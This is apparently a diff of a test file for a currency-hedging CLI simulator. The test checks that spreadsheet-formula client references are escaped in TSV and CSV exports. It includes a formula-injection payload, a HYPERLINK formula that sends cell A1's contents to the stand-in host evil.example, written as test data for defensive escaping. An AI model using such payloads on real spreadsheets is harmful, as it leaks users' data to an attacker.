@@ -290,11 +290,11 @@ describe('cells a spreadsheet would run as formulas (a deal reference is the use
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
     const own = await startSimulator();
     try {
-      const opened = await own.hedge(['open', 'USDTNGN', 'sell', '1000', '--tenor', '3', '--ref', formula, '--json']);
+      const opened = await own.hedge(`open USDTNGN sell 1000 --tenor 3 --ref ${formula} --json`);
       expect(opened.code, opened.stderr).toBe(0);
       expect(own.hedges().map((hedge) => hedge.clientReference)).toEqual([formula]);
-      const tsv = await own.hedge(['hedges', '--format', 'tsv', '--fields', 'client_reference,notional_usd']);
-      const csv = await own.hedge(['hedges', '--format', 'csv', '--fields', 'client_reference,notional_usd']);
+      const tsv = await own.hedge('hedges --format tsv --fields client_reference,notional_usd');
+      const csv = await own.hedge('hedges --format csv --fields client_reference,notional_usd');
       expect(tsv.code, tsv.stderr).toBe(0);
       expect(tsv.stdout.trimEnd().split('\n')).toEqual(['client_reference\tnotional_usd', `'${formula}\t1000`]);
       expect(parse(csv.stdout)).toEqual([
